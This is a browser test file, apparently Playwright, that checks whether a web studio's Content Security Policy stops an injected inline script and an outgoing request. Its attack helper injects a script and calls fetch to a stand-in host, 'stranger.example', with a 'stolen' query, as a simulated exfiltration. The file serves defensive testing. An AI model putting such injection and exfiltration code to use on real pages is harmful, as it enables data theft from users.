import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/hosted.ts';

/** What an injected script could do: run, and send something away. */
async function attack(page: Page) {
  return page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'document.documentElement.dataset.attacked = "yes"';
    document.head.append(script);
    const sent = await fetch('https://stranger.example/?stolen=picture', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { ran: document.documentElement.dataset['attacked'] ?? 'blocked', sent };
  });
}

const both = { ran: 'blocked', sent: 'blocked' };

test('the page runs no script but its own and speaks to no stranger', async ({
  page,
  studio,
  watch,
}) => {
  await studio.openReady();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  await studio.openPack('Two strangers');
  // Nothing that the page itself does is against the policy: every complaint before this line fails the test.
  expect(watch.complaints()).toEqual([]);
  watch.foresee(/Content Security Policy|stranger\.example/);
  expect(await attack(page)).toEqual(both);
});

test('where a host sets no headers the page brings its policy itself, and works', async ({
  host,
  page,
  studio,
  watch,
}) => {
  host.forgetHeaders();
  await studio.openReady();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
  await studio.openPack('Two strangers');
  expect(watch.complaints()).toEqual([]);
  watch.foresee(/Content Security Policy|stranger\.example/);
  expect(await attack(page)).toEqual(both);
});
